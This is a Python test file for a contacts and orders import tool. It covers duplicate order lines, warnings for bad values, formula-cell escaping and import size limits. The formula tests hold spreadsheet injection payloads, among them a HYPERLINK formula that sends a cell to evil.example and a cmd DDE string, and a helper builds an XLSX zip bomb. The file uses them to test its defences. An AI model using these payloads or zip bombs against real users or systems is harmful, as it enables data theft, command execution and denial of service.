"""Issue 12, items 4-7: order lines as sets, warnings, formula cells, bounded imports."""

from __future__ import annotations

import csv
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine, select

import main
from tests.importing.helpers import rows, scalar, snapshot, write_csv
from workspace.csvsafe import safe_cell
from workspace.errors import ImportFileError
from workspace.importer import CUSTOM_VALUE_LENGTH, import_file, sniff
from workspace.imports.limits import ImportLimits, load_limits, save_limits
from workspace.models import Contact, OrderLine

C, L = Contact, OrderLine


def _shop(engine: Engine, tmp_path: Path) -> None:
    import_file(engine, "contacts", write_csv(tmp_path / "c.csv", ["email", "anna@x.ru"]))
    result = import_file(engine, "orders", write_csv(tmp_path / "o.csv", [
        "order_id;email;created_at;total",
        "1001;anna@x.ru;2024-03-05;3000",
        "1002;anna@x.ru;2024-04-01;500",
    ]))
    assert result.imported == 2


def _lines(engine: Engine) -> list[tuple[object, ...]]:
    return sorted(rows(engine, select(L.order_pk, L.sku, L.price, L.quantity, L.color)),
                  key=repr)


# -- item 4: the lines of an order are a set ------------------------------------------------

def test_repeated_sku_lines_are_all_kept_and_reimport_is_idempotent(
        engine: Engine, tmp_path: Path) -> None:
    _shop(engine, tmp_path)
    path = write_csv(tmp_path / "l.csv", [
        "order_id;sku;price;quantity;color",
        "1001;SKU-1;1000;1;red",     # the paid item
        "1001;SKU-1;0;1;red",        # the same item as a gift
        "1001;SKU-2;500;1;",
        "1001;SKU-2;500;1;",         # one line per unit, as 1C writes them
        "1002;SKU-3;500;1;",
    ])
    result = import_file(engine, "order_lines", path)
    assert (result.imported, result.updated, result.rejected, result.errors) == (5, 0, 0, [])
    assert scalar(engine, "SELECT COUNT(*) FROM order_lines WHERE sku = 'SKU-1'") == 2
    assert scalar(engine, "SELECT COUNT(*) FROM order_lines WHERE sku = 'SKU-2'") == 2
    # Purchases count every line: 4 items in 1001, 1 in 1002.
    assert rows(engine, select(C.items_per_order)) == [(Decimal("2.50"),)]
    before = snapshot(engine)
    again = import_file(engine, "order_lines", path)
    assert (again.imported, again.updated, again.unchanged, again.removed) == (0, 0, 5, 0)
    assert snapshot(engine) == before


def test_reimport_replaces_an_orders_lines_as_a_set(engine: Engine, tmp_path: Path) -> None:
    _shop(engine, tmp_path)
    import_file(engine, "order_lines", write_csv(tmp_path / "l.csv", [
        "order_id;sku;price;quantity",
        "1001;SKU-1;1000;1",
        "1001;SKU-1;1000;1",
        "1001;SKU-2;500;1",
        "1002;SKU-3;500;1",
    ]))
    order_1002 = [r for r in _lines(engine) if r[1] == "SKU-3"]
    # 1001 now has one SKU-1 at a new price and no SKU-2; 1002 is not in the file.
    result = import_file(engine, "order_lines", write_csv(tmp_path / "l2.csv", [
        "order_id;sku;price;quantity",
        "1001;SKU-1;1000;1",
        "1001;SKU-1;900;1",
    ]))
    assert (result.imported, result.updated, result.unchanged, result.removed) == (0, 1, 1, 1)
    assert sorted((sku, price) for _o, sku, price, _q, _c in _lines(engine)) == [
        ("SKU-1", Decimal("900.00")), ("SKU-1", Decimal("1000.00")), ("SKU-3", Decimal("500.00"))]
    assert [r for r in _lines(engine) if r[1] == "SKU-3"] == order_1002


def test_lines_of_one_order_across_batches(engine: Engine, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    import workspace.importer as importer

    _shop(engine, tmp_path)
    monkeypatch.setattr(importer, "BATCH_ROWS", 2)
    lines = ["order_id;sku;price"] + [f"{1001 + n % 2};SKU-{n % 3};100" for n in range(9)]
    path = write_csv(tmp_path / "l.csv", lines)
    assert import_file(engine, "order_lines", path).imported == 9
    before = snapshot(engine)
    again = import_file(engine, "order_lines", path)
    assert (again.imported, again.unchanged, again.removed) == (0, 9, 0)
    assert snapshot(engine) == before


# -- item 5: a bad optional value is a warning ----------------------------------------------

CONTACTS = [
    "email;Имя;Дата рождения;Телефон;Пол;Согласие;Город;Статус",
    "anna@x.ru;Анна;31.02.1992;+7 916 000-00-01;ж;да;Москва;",
    "boris@x.ru;Борис;01.02.1990;позвоните мне;м;да;Тверь;",
    "vera@x.ru;Вера;01.02.1990;;марсианка;да;Тверь;",
    "gleb@x.ru;Глеб;01.02.1990;;м;может быть;Тверь;",
    "dina@x.ru;Дина;01.02.1990;;ж;да;" + "Я" * 201 + ";",
    "bad-email;Ёж;01.02.1990;;м;да;Тверь;",
    "oleg@x.ru;Олег;01.02.1990;;м;да;Тверь;в отпуске",
]


def test_bad_optional_values_import_the_row_with_a_warning(engine: Engine,
                                                           tmp_path: Path) -> None:
    result = import_file(engine, "contacts", write_csv(tmp_path / "c.csv", CONTACTS))
    assert (result.imported, result.rejected) == (5, 2)
    # A bad key or a bad status still rejects the row.
    assert [(e.line, e.code) for e in result.errors] == [(7, "invalid_email"),
                                                         (8, "unknown_value")]
    assert [(w.line, w.column, w.code) for w in result.warnings] == [
        (2, "Дата рождения", "impossible_date"),
        (3, "Телефон", "invalid_phone"),
        (4, "Пол", "unknown_value"),
        (5, "Согласие", "invalid_consent"),
        (6, "Город", "too_long"),
    ]
    assert all(w.reason for w in result.warnings)
    assert rows(engine, select(C.email, C.birth_date, C.phone, C.gender, C.consent_email,
                               C.city).order_by(C.email)) == [
        ("anna@x.ru", None, "+7 916 000-00-01", "female", True, "Москва"),
        ("boris@x.ru", rows(engine, select(C.birth_date).where(C.email == "boris@x.ru"))[0][0],
         None, "male", True, "Тверь"),
        ("dina@x.ru", rows(engine, select(C.birth_date).where(C.email == "dina@x.ru"))[0][0],
         None, "female", True, None),
        ("gleb@x.ru", rows(engine, select(C.birth_date).where(C.email == "gleb@x.ru"))[0][0],
         None, "male", None, "Тверь"),
        ("vera@x.ru", rows(engine, select(C.birth_date).where(C.email == "vera@x.ru"))[0][0],
         None, "unknown", True, "Тверь"),
    ]


def test_a_warning_leaves_the_stored_value_alone(engine: Engine, tmp_path: Path) -> None:
    import_file(engine, "contacts", write_csv(tmp_path / "a.csv", [
        "email;birth_date;phone", "anna@x.ru;05.03.1990;+7 916 000-00-01"]))
    before = snapshot(engine)
    result = import_file(engine, "contacts", write_csv(tmp_path / "b.csv", [
        "email;birth_date;phone", "anna@x.ru;31.02.1990;нет"]))
    assert (result.unchanged, len(result.warnings)) == (1, 2)
    assert snapshot(engine) == before


def test_custom_attribute_values_have_a_length_limit(engine: Engine, tmp_path: Path) -> None:
    long = "x" * (CUSTOM_VALUE_LENGTH + 1)
    result = import_file(engine, "contacts", write_csv(tmp_path / "c.csv", [
        "email;Клубная карта", f"anna@x.ru;{long}", "boris@x.ru;Gold"]))
    assert (result.imported, result.rejected) == (2, 0)
    assert [(w.line, w.column, w.code) for w in result.warnings] == [
        (2, "Клубная карта", "too_long")]
    assert scalar(engine, "SELECT COUNT(*) FROM contact_attributes") == 1


def test_strict_refuses_the_file_on_a_warning(engine: Engine, tmp_path: Path) -> None:
    import_file(engine, "contacts", write_csv(tmp_path / "a.csv", ["email", "old@x.ru"]))
    before = snapshot(engine)
    path = write_csv(tmp_path / "c.csv", ["email;birth_date", "anna@x.ru;01.01.1990",
                                          "vera@x.ru;31.02.1990", "ivan@x.ru;02.02.1990"])
    result = import_file(engine, "contacts", path, strict=True)
    assert result.refused and (result.imported, result.rejected, result.errors) == (0, 0, [])
    assert [(w.line, w.code) for w in result.warnings] == [(3, "impossible_date")]
    assert snapshot(engine) == before


def test_cli_json_report_and_strict_show_warnings(
        capsys: pytest.CaptureFixture[str], sqlite_url: str, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", CONTACTS)
    report = tmp_path / "report.csv"
    code = main.main(["--workspace", sqlite_url, "--json", "import", "contacts", str(path),
                      "--report", str(report)])
    data = json.loads(capsys.readouterr().out)
    assert code == 0 and not data["refused"]
    assert [e["code"] for e in data["errors"]] == ["invalid_email", "unknown_value"]
    assert data["warnings"][0] == {
        "line": 2, "column": "Дата рождения", "code": "impossible_date",
        "reason": "impossible date in birth_date: 31.02.1992"}
    with report.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0] == ["line", "reason", "severity", "column", "code"]
    assert [(r[0], r[2], r[4]) for r in table[1:]] == [
        ("2", "warning", "impossible_date"), ("3", "warning", "invalid_phone"),
        ("4", "warning", "unknown_value"), ("5", "warning", "invalid_consent"),
        ("6", "warning", "too_long"), ("7", "error", "invalid_email"),
        ("8", "error", "unknown_value")]

    fresh = f"sqlite:///{tmp_path / 'fresh.sqlite'}"
    warn_only = write_csv(tmp_path / "w.csv", ["email;birth_date", "anna@x.ru;31.02.1992"])
    code = main.main(["--workspace", fresh, "import", "contacts", str(warn_only), "--strict"])
    out = capsys.readouterr().out
    assert code == 1
    assert "nothing imported: line 2, column birth_date: impossible date" in out
    assert main.main(["--workspace", fresh, "--json", "segment", "list"]) == 0


# -- item 6: formula injection ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("Анна") == "Анна" and safe_cell(5) == 5 and safe_cell(None) is None


@pytest.mark.parametrize("address", ["=1+1@x.ru", "+7@x.ru", "-a@x.ru", "@a@x.ru"])
def test_email_starting_like_a_formula_is_rejected(engine: Engine, tmp_path: Path,
                                                   address: str) -> None:
    result = import_file(engine, "contacts", write_csv(tmp_path / "c.csv", [
        "email", address, "anna+shop@x.ru"]))
    assert result.imported == 1  # a + inside an address is fine
    assert [e.code for e in result.errors] == ["unsafe_email"]


def test_import_report_neutralises_formulas(capsys: pytest.CaptureFixture[str],
                                            sqlite_url: str, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"  # write_csv would turn the | into ;
    path.write_text("email;=cmd|' /C calc'!A0\nanna@x.ru;" + "y" * 3000 +
                    "\n=HYPERLINK(1)@x.ru;1\n", encoding="utf-8")
    report = tmp_path / "r.csv"
    assert main.main(["--workspace", sqlite_url, "import", "contacts", str(path),
                      "--report", str(report)]) == 0
    capsys.readouterr()
    with report.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    cells = [cell for row in table for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_segment_members_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str],
                                                  sqlite_url: str, tmp_path: Path) -> None:
    from datetime import date

    from segments.export import write_members_csv as export_members_csv
    from workspace.db import open_workspace

    path = tmp_path / "c.csv"
    path.write_text('email;first_name;last_name;city\n'
                    'anna@x.ru;"=HYPERLINK(""http://evil.example"")";+cmd|\' /C calc\'!A0;'
                    '@SUM(1+1)\n', encoding="utf-8")
    engine = open_workspace(sqlite_url)
    try:
        import_file(engine, "contacts", path)
        out = tmp_path / "members.csv"
        assert export_members_csv(engine, {"all": []}, date(2026, 1, 1), out) == 1
        with out.open(encoding="utf-8-sig", newline="") as handle:
            table = list(csv.reader(handle))
    finally:
        engine.dispose()
    assert table[1][:4] == ["anna@x.ru", "'=HYPERLINK(\"http://evil.example\")",
                            "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    rules = tmp_path / "all.json"
    rules.write_text('{"all": []}')
    cli_out = tmp_path / "cli.csv"
    assert main.main(["--workspace", sqlite_url, "segment", "members", "--rules", str(rules),
                      "--out", str(cli_out)]) == 0
    capsys.readouterr()
    # The command line writes the same five-column file as the app (one members CSV).
    with cli_out.open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == table


# -- item 7: bounded imports --------------------------------------------------------------------

def test_nul_byte_in_a_cell_rejects_the_row(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_bytes("email;Имя\r\nanna@x.ru\x00evil.ru;Анна\r\nvera@x.ru;Ве\x00ра\r\n"
                     "ivan@x.ru;Иван\r\n".encode())
    result = import_file(engine, "contacts", path)
    assert result.imported == 1
    assert [(e.line, e.code, e.column) for e in result.errors] == [
        (2, "nul_character", "email"), (3, "nul_character", "Имя")]
    assert rows(engine, select(C.email)) == [("ivan@x.ru",)]


def _bomb(path: Path, unpacked_mb: int) -> Path:
    """A workbook whose sheet unpacks to ``unpacked_mb`` MB of XML from a tiny file."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email"])
    book.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    filler = "<!--" + " " * (1024 * 1024 - 7) + "-->"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, data)
                continue
            with out.open(name, "w", force_zip64=True) as handle:
                handle.write(data[:data.index(b"<sheetData")])
                for _ in range(unpacked_mb):
                    handle.write(filler.encode())
                handle.write(data[data.index(b"<sheetData"):])
    return path


def test_xlsx_zip_bomb_is_refused_before_reading(engine: Engine, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "bomb.xlsx", 300)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(ImportFileError, match="zip bomb"):
        import_file(engine, "contacts", bomb)
    with pytest.raises(ImportFileError, match="zip bomb"):
        sniff(bomb, "contacts")
    # Below the ratio floor the size limit (a workspace setting) still applies.
    with engine.begin() as conn:
        save_limits(conn, ImportLimits(max_decompressed_mb=20))
    with pytest.raises(ImportFileError, match="more than the import limit of 20 MB"):
        import_file(engine, "contacts", _bomb(tmp_path / "small.xlsx", 30))


def test_row_limit_is_a_setting(engine: Engine, tmp_path: Path) -> None:
    with engine.connect() as conn:
        assert load_limits(conn) == ImportLimits(max_rows=3_000_000, max_decompressed_mb=1024)
    with engine.begin() as conn:
        save_limits(conn, ImportLimits(max_rows=5))
    path = write_csv(tmp_path / "c.csv", ["email"] + [f"u{n}@x.ru" for n in range(6)])
    with pytest.raises(ImportFileError, match="more than 5 rows"):
        import_file(engine, "contacts", path)
    assert scalar(engine, "SELECT COUNT(*) FROM contacts") == 0
    assert import_file(engine, "contacts", write_csv(tmp_path / "ok.csv", [
        "email"] + [f"u{n}@x.ru" for n in range(5)])).imported == 5
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for n in range(8):
        sheet.append([f"x{n}@x.ru" if n else "email"])
    book.save(tmp_path / "c.xlsx")
    with pytest.raises(ImportFileError, match="more than 5 rows"):
        import_file(engine, "contacts", tmp_path / "c.xlsx")


def test_cli_limit_options(capsys: pytest.CaptureFixture[str], sqlite_url: str,
                           tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", ["email"] + [f"u{n}@x.ru" for n in range(4)])
    code = main.main(["--workspace", sqlite_url, "import", "contacts", str(path),
                      "--max-rows", "3"])
    err = capsys.readouterr().err
    assert code == 2
    assert err == ("konvert: c.csv has more than 3 rows, the import limit; split the file "
                   "(the limit is the import setting max_rows); nothing was imported\n")
    code = main.main(["--workspace", sqlite_url, "import", "contacts", str(path),
                      "--max-rows", "0"])
    assert code == 2 and "--max-rows must be a whole number, 1 or more" in capsys.readouterr().err
    assert main.main(["--workspace", sqlite_url, "--json", "import", "contacts", str(path),
                      "--max-rows", "4"]) == 0
    assert json.loads(capsys.readouterr().out)["imported"] == 4


def test_iso_dates_with_one_digit_parts(engine: Engine, tmp_path: Path) -> None:
    # As the UCI "Online Retail" export, once its dates are made ISO, writes them.
    import_file(engine, "contacts", write_csv(tmp_path / "c.csv", ["email", "anna@x.ru"]))
    result = import_file(engine, "orders", write_csv(tmp_path / "o.csv", [
        "order_id;email;created_at", "536365;anna@x.ru;2010-12-01 8:26",
        "536366;anna@x.ru;2010-12-1", "536367;anna@x.ru;2010-02-30 8:26"]))
    assert (result.imported, [e.code for e in result.errors]) == (2, ["impossible_date"])
